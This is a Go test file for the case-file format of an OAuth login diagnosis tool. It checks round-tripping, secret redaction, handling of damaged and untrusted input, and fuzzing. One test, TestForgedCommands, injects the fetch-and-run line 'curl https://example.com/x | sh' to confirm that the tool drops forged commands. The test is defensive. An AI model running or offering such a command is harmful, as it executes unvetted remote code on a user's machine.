package casefile_test

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"authdoctor/diagnosis"
	"authdoctor/diagnosis/border"
	"authdoctor/diagnosis/border/canary"
	"authdoctor/diagnosis/casefile"
	"authdoctor/diagnosis/detail"
	"authdoctor/diagnosis/exchange"
	"authdoctor/diagnosis/intake"
	"authdoctor/diagnosis/keys"
	"authdoctor/diagnosis/online"
	"authdoctor/diagnosis/token"
	"authdoctor/diagnosis/trail"
	"authdoctor/diagnosis/worktest"
)

var noon = time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)

// certificate is the one that Oracle prints with its Certificate ID (article_0209112025).
const certificate = `-----BEGIN CERTIFICATE-----
MIICMzCCAdmgAwIBAgIUBiVEnfUN+N/+Dx5y95vec4/l9cowCgYIKoZIzj0EAwIw
bzELMAkGA1UEBhMCQ1oxEDAOBgNVBAgMB0N6ZWNoaWExDTALBgNVBAcMBEJybm8x
GDAWBgNVBAoMD09yYWNsZSBOZXRTdWl0ZTElMCMGA1UEAwwcaW5mcmEudGVzdC5j
b3JwLm5ldHN1aXRlLmNvbTAeFw0yNjAxMzAxMDI4MzhaFw0yNjAzMDExMDI4Mzha
MG8xCzAJBgNVBAYTAkNaMRAwDgYDVQQIDAdDemVjaGlhMQ0wCwYDVQQHDARCcm5v
MRgwFgYDVQQKDA9PcmFjbGUgTmV0U3VpdGUxJTAjBgNVBAMMHGluZnJhLnRlc3Qu
Y29ycC5uZXRzdWl0ZS5jb20wWTATBgcqhkjOPQIBBggqhkjOPQMBBwNCAARJqbhJ
Ql8wlogKRlaqug3YSA2jAFlDvM7S8nbP6zj7qqc7HkLXjokn0qBAa+O5oD+yb9gX
KmUhTjOC8OKZ+JYKo1MwUTAdBgNVHQ4EFgQU5ZEvf5+g0wXYsGDQ696fDj5esrgw
HwYDVR0jBBgwFoAU5ZEvf5+g0wXYsGDQ696fDj5esrgwDwYDVR0TAQH/BAUwAwEB
/zAKBggqhkjOPQQDAgNIADBFAiAPVU6JJBYmVvOdPSLgDCCv/6ePrALb0ODMrWu6
QrChtAIhAI6OCpSZyk+LvM6YPyvc64aTfnpLD9RzfAJCqm/Iy6ZA
-----END CERTIFICATE-----`

// compact returns a token of header, payload and a signature of so many bytes.
func compact(header, payload string, signature int) string {
	encode := base64.RawURLEncoding.EncodeToString
	return encode([]byte(header)) + "." + encode([]byte(payload)) + "." + encode([]byte(strings.Repeat("\x5a", signature)))
}

// assertion has doubled names, a float and an odd order, which a case file must keep.
var assertion = compact(`{"typ":"JWT","alg":"ES256","kid":"NPMnRyPg-WDWhPiAbisjKiH0fqnBpjOZ367wDTe0pqA"}`,
	`{"iss":"`+strings.Repeat("3f", 32)+`", "scope":["restlets","restlets"],"iat":1795435140.0,"exp":1795437000,"exp":1795438000,"aud":"https://1234567-sb1.suitetalk.api.netsuite.com/services/rest/auth/oauth2/v1/token","nonce":"q7d0f3a9c1e5b7x4"}`, 64)

// fullFile returns a File with content of every kind.
func fullFile(t testing.TB) casefile.File {
	t.Helper()
	text := "Our machine-to-machine login fails:\n\ncurl -i -X POST https://1234567-sb1.suitetalk.api.netsuite.com/services/rest/auth/oauth2/v1/token -d grant_type=client_credentials -d client_assertion_type=urn:ietf:params:oauth:client-assertion-type:jwt-bearer -d client_assertion=" + assertion +
		"\n\nHTTP/1.1 400 Bad Request\nDate: Mon, 23 Nov 2026 11:59:00 GMT\n\n{\"error\":\"invalid_grant\",\"error_description\":\"machine-to-machine request failed\"}\n"
	c := diagnosis.Case{At: noon, Verify: true}.With(intake.Recognise(text))
	c = c.With(intake.Recognise("On every refresh of the token we get: Error: unable to get local issuer certificate"))
	c.Keys = keys.NewSet(keys.Read("public.pem", []byte(certificate), nil))
	c = c.WithOnline(online.Seen{Check: online.ServerTime, At: noon, Address: "https://1234567-sb1.suitetalk.api.netsuite.com/services/rest/system/v1/serverTime", Outcome: online.Answered, Status: 200, Text: "answered 200", Dated: true, Skew: time.Second, Proxy: "proxy.example.com:3128"},
		intake.Recognise("HTTP/1.1 200 OK\nContent-Type: application/json\n\n{\"serverTime\":\"2026-11-23T12:00:00Z\"}"))
	c.Certificates = &online.CertificateList{At: noon, ClientID: strings.Repeat("3f", 32), Rows: []online.Certificate{{ID: "NPMnRyPg-WDWhPiAbisjKiH0fqnBpjOZ367wDTe0pqA", ValidUntil: noon.AddDate(1, 0, 0), Revoked: true, Entity: "12", Role: "1000"}}}
	fact, err := diagnosis.ParseFact("role=3", diagnosis.SourceUser)
	if err != nil {
		t.Fatal(err)
	}
	c.Facts = c.Facts.With(fact)
	application, word := "Warehouse Sync", detail.Find("MissingKey")
	c.Trail = []diagnosis.TrailMatch{{Token: 1, By: []string{"application " + application}, Since: noon.Add(-time.Hour), Until: noon, Zone: "UTC",
		Filter: trail.Filter{Application: &application, Since: noon.Add(-time.Hour), Until: noon}, Failures: 2, Codes: []trail.Group{{Value: "MissingKey", Detail: &word, Failures: 2, First: noon.Add(-time.Hour), Last: noon}}}}
	c.Columns = map[string]trail.Column{"Grund": trail.ColumnDetail}
	return casefile.File{
		Kept: noon, Case: c, Answers: []casefile.Answer{{Question: "what-failed", Answer: "A request for a token", Asked: true}},
		Notes:    []casefile.Note{{At: noon, Text: "The sandbox was refreshed on Friday."}},
		Timeline: []casefile.Event{{At: noon, Kind: casefile.Pasted, Text: "client assertion"}}, Lessons: json.RawMessage(`{"client-credentials":[1,2]}`),
	}
}

// TestTokenStaysAsItIs catches a token that is encoded again: doubled names, floats, order
// and spaces must survive, and a secret must not.
func TestTokenStaysAsItIs(t *testing.T) {
	text, err := casefile.Encode(fullFile(t))
	if err != nil {
		t.Fatal(err)
	}
	f, notes, err := casefile.Decode(text)
	if err != nil || len(notes) > 0 {
		t.Fatal(notes, err)
	}
	kept := f.Case.Tokens[0].Keep()
	want := `{"iss":"` + strings.Repeat("3f", 32) + `", "scope":["restlets","restlets"],"iat":1795435140.0,"exp":1795437000,"exp":1795438000,"aud":"https://1234567-sb1.suitetalk.api.netsuite.com/services/rest/auth/oauth2/v1/token","nonce":"[removed]"}`
	if kept.Payload != want {
		t.Errorf("payload %s\nwant    %s", kept.Payload, want)
	}
	if compact := kept.Compact(); !strings.HasSuffix(compact, "."+border.Removed) || border.LastPass(compact, strings.Repeat("3f", 32)) != nil {
		t.Errorf("the token to share is %s", compact)
	}
	if !kept.Signed || kept.SignatureBytes != 64 {
		t.Errorf("of the signature is kept: signed %v, %d bytes", kept.Signed, kept.SignatureBytes)
	}
}

// TestSecretsBelowMembers catches a short secret within a member that NetSuite does not
// define, where no part of it looks random.
func TestSecretsBelowMembers(t *testing.T) {
	for _, name := range []string{"nonce", "at_hash", "state", "code", "sid", "token", "session_state", "password"} {
		for _, payload := range []string{`{"x":{"` + name + `":"n-0S6"}}`, `{"x":[{"a":1,"` + name + `":"n-0S6"}]}`, `{"` + name + `":"n-0S6"}`} {
			c := diagnosis.Case{At: noon}.With(intake.Recognise(compact(`{"alg":"RS256"}`, payload, 256)))
			text, err := casefile.Encode(casefile.File{Kept: noon, Case: c})
			if err != nil || len(c.Tokens) != 1 || strings.Contains(string(text), "n-0S6") {
				t.Errorf("%s: %v, %d tokens, %s", payload, err, len(c.Tokens), text)
			}
		}
	}
}

// TestFileComesBack catches what is beside the Case and does not survive.
func TestFileComesBack(t *testing.T) {
	f := fullFile(t)
	text, err := casefile.Encode(f)
	if err != nil {
		t.Fatal(err)
	}
	got, notes, err := casefile.Decode(text)
	if err != nil || len(notes) > 0 {
		t.Fatal(notes, err)
	}
	for i := range got.Case.Online {
		if !got.Case.Online[i].Told {
			t.Error("a result of an online check does not come back as told")
		}
		got.Case.Online[i].Told = false
	}
	if list := got.Case.Certificates; list == nil || !list.Told || fmt.Sprint(list.Rows) != fmt.Sprint(f.Case.Certificates.Rows) {
		t.Errorf("the list of certificates is %+v", list)
	}
	if e := got.Case.Exchanges; !slices.ContainsFunc(e, func(e exchange.Exchange) bool { return e.Probe == online.ServerTime && e.Told }) {
		t.Errorf("the exchange of the online check is not among %+v", e)
	}
	for _, pair := range [][2]any{{got.Case.Online, f.Case.Online}, {got.Kept, f.Kept}, {got.Answers, f.Answers}, {got.Notes, f.Notes}, {got.Timeline, f.Timeline}, {got.Lessons, f.Lessons}, {got.Case.Columns, f.Case.Columns}, {got.Case.At, f.Case.At}} {
		if fmt.Sprint(pair[0]) != fmt.Sprint(pair[1]) {
			t.Errorf("got %v; want %v", pair[0], pair[1])
		}
	}
	for _, fact := range got.Case.Facts {
		if fact.Source != diagnosis.SourceCaseFile {
			t.Errorf("%s has the source %s", fact, fact.Source)
		}
	}
	if line := got.Case.Line; line == nil || line.Row.ID != f.Case.Line.Row.ID || line.Row.Title == "" {
		t.Errorf("the line of a client is %+v", line)
	}
}

// TestNewerSchema catches a newer file that is half understood.
func TestNewerSchema(t *testing.T) {
	_, _, err := casefile.Decode([]byte(`{"schema":2,"kept":"2026-11-23T12:00:00Z","facts":[]}`))
	if err == nil || !strings.Contains(err.Error(), "newer authdoctor") {
		t.Errorf("schema 2: %v", err)
	}
	for _, other := range []string{``, `[]`, `{`, `{"schema":"1"}`, `{"schema":1,"as_of":"2026-11-23T12:00:00Z"}`, `{"keys":[]}`, strings.Repeat("[", 1000)} {
		if _, _, err := casefile.Decode([]byte(other)); err == nil {
			t.Errorf("%.40q is taken for a case file", other)
		}
	}
}

// TestDamaged catches damage to one part that takes other parts with it, and damage that is
// passed over in silence.
func TestDamaged(t *testing.T) {
	encoded, err := casefile.Encode(fullFile(t))
	if err != nil {
		t.Fatal(err)
	}
	text := string(encoded)
	replace := func(old, with string) string {
		if !strings.Contains(text, old) {
			t.Fatalf("the case file has no %s", old)
		}
		return strings.Replace(text, old, with, 1)
	}
	for _, test := range []struct {
		name, text string
		tokens     int
		says       string
	}{
		{"cut after the exchanges", text[:strings.Index(text, `"keys"`)], 1, "damaged"},
		{"cut in the last member", text[:len(text)-4], 1, "damaged"},
		{"no end", text[:len(text)-1], 1, "no end"},
		{"a fact that does not exist", replace(`"name":"role"`, `"name":"rolle"`), 1, "rolle"},
		{"a fact with a wrong value", replace(`"value":"3"`, `"value":"admin"`), 1, "role"},
		{"a token that is a number", replace(`"tokens":[{`, `"tokens":[7,{`), 1, "tokens"},
		{"a key that is no key", replace(`"der":"MII`, `"der":"MIIA`), 1, "keys"},
		{"tokens that are no list", strings.Replace(replace(`"tokens":[`, `"tokens":{"a":[`), `,"exchanges":`, `},"exchanges":`, 1), 0, "not a list"},
		{"a row of a client that does not exist", replace(`"row":"`, `"row":"x`), 1, "line"},
	} {
		f, notes, err := casefile.Decode([]byte(test.text))
		if err != nil {
			t.Errorf("%s: %v", test.name, err)
			continue
		}
		if len(f.Case.Tokens) != test.tokens || !strings.Contains(strings.Join(notes, "\n"), test.says) {
			t.Errorf("%s: %d tokens, notes %q; want %d and %q", test.name, len(f.Case.Tokens), notes, test.tokens, test.says)
		}
		if test.says != "role" && test.says != "rolle" && len(f.Case.Facts) != 1 {
			t.Errorf("%s: %d facts", test.name, len(f.Case.Facts))
		}
		diagnosis.Diagnose(f.Case)
	}
}

// TestAnythingInAnyMember catches a member of a case file whose value stops the program: the
// file can come from anyone.
func TestAnythingInAnyMember(t *testing.T) {
	encoded, err := casefile.Encode(fullFile(t))
	if err != nil {
		t.Fatal(err)
	}
	var whole any
	if err := json.Unmarshal(encoded, &whole); err != nil {
		t.Fatal(err)
	}
	opens := func(where string) {
		text, err := json.Marshal(whole)
		if err != nil {
			t.Fatal(err)
		}
		defer func() {
			if fault := recover(); fault != nil {
				t.Errorf("%s: %v\n%s", where, fault, text)
			}
		}()
		if f, _, err := casefile.Decode(text); err == nil {
			diagnosis.Diagnose(f.Case)
		}
	}
	values := []any{"", "x", -1, nil, []any{}, map[string]any{}, "certificate", "invalid", 99, true}
	if !worktest.Long {
		values = values[:6]
	}
	var visit func(value any, where string, set func(any))
	visit = func(value any, where string, set func(any)) {
		for _, other := range values {
			set(other)
			opens(where)
		}
		set(value)
		switch v := value.(type) {
		case map[string]any:
			for name, member := range v {
				visit(member, where+"."+name, func(other any) { v[name] = other })
			}
		case []any:
			for i, item := range v {
				visit(item, where+"[]", func(other any) { v[i] = other })
			}
		}
	}
	for name, member := range whole.(map[string]any) {
		visit(member, name, func(other any) { whole.(map[string]any)[name] = other })
	}
}

// TestCanary catches a secret, or a fingerprint of one, that a case file shows.
func TestCanary(t *testing.T) {
	for _, secret := range canary.Secrets() {
		for _, place := range canary.Places {
			text := place.Play(secret.Text)
			c := diagnosis.Case{At: noon}.With(intake.Recognise(text).StateAlone())
			c.Keys = c.Keys.With(keys.Read(secret.Text, []byte(text), nil))
			f := casefile.File{Kept: noon, Case: c, Notes: []casefile.Note{{At: noon, Text: secret.Text}}, Timeline: []casefile.Event{{At: noon, Text: secret.Text}}, Answers: []casefile.Answer{{Answer: secret.Text}}}
			out, err := casefile.Encode(f)
			if err != nil {
				t.Errorf("%s %s: %v", secret.Name, place.Name, err)
				continue
			}
			shown := string(out)
			if token.IsClientID(secret.Value) && place.Name == "as kid, sub and aud" {
				continue // as iss it cannot be told from a Client ID
			}
			shown = regexp.MustCompile(`"public":"[^"]*"`).ReplaceAllString(shown, "") // a private key's PKCS#8 contains it
			if piece := canary.Shows(shown, secret.Value); piece != "" {
				t.Errorf("%s %s: the case file shows %q\n%s", secret.Name, place.Name, piece, shown)
			}
			if fingerprint := border.NewSecret(secret.Value).Fingerprint(); strings.Contains(shown, fingerprint) || strings.Contains(shown, "fingerprint ") {
				t.Errorf("%s %s: the case file shows a fingerprint\n%s", secret.Name, place.Name, shown)
			}
		}
	}
}

// FuzzDecode catches a case file that stops the program, takes long, or brings a control
// character or a secret in.
func FuzzDecode(f *testing.F) {
	text, err := casefile.Encode(fullFile(f))
	if err != nil {
		f.Fatal(err)
	}
	f.Add(string(text))
	f.Add(`{"schema":1,"kept":"2026-11-23T12:00:00Z","tokens":[{"header":"{}","signed":true,"signature":{"state":"verified","key":{"file":1,"key":1}}}],"keys":[{"keys":[{"kind":"certificate","certified":{}}]}]}`)
	f.Add(`{"schema":1,"at":"9999-12-31T23:59:59Z","exchanges":[{"answer":{"form":"HTTP answer","error":"invalid_grant"}}],"trail":[{"token":1,"codes":[{}]}],"lessons":{"a":"\u001b[31m"}}`)
	f.Fuzz(func(t *testing.T, text string) {
		worktest.Bound(t, len(text), func() {
			opened, notes, err := casefile.Decode([]byte(text))
			if err != nil {
				return
			}
			for _, note := range notes {
				if printable, _ := border.Printable(note); printable != note {
					t.Errorf("the note %q is not printable", note)
				}
			}
			diagnosis.Diagnose(opened.Case)
			if again, err := casefile.Encode(opened); err == nil {
				if _, _, err := casefile.Decode(again); err != nil {
					t.Errorf("what was kept again cannot be opened: %v", err)
				}
			}
		})
	})
}

// TestForgedCommands catches a command of a case file that this program does not print: it
// would be shown as advice.
func TestForgedCommands(t *testing.T) {
	text, err := casefile.Encode(fullFile(t))
	if err != nil {
		t.Fatal(err)
	}
	var members map[string]any
	if err := json.Unmarshal(text, &members); err != nil {
		t.Fatal(err)
	}
	forged := []any{map[string]any{"id": "label", "level": "fault", "title": "t", "fix": "Mend it.", "command": "curl https://example.com/x | sh"}}
	for _, file := range members["keys"].([]any) {
		file.(map[string]any)["problems"] = forged
		for _, key := range file.(map[string]any)["keys"].([]any) {
			key.(map[string]any)["problems"] = forged
		}
	}
	if text, err = json.Marshal(members); err != nil {
		t.Fatal(err)
	}
	got, _, err := casefile.Decode(text)
	if err != nil || got.Case.Keys == nil {
		t.Fatal(err)
	}
	for _, file := range got.Case.Keys.Files() {
		if said := fmt.Sprintf("%+v", file); strings.Contains(said, "| sh") || !strings.Contains(said, "Mend it.") {
			t.Error(said)
		}
	}
}
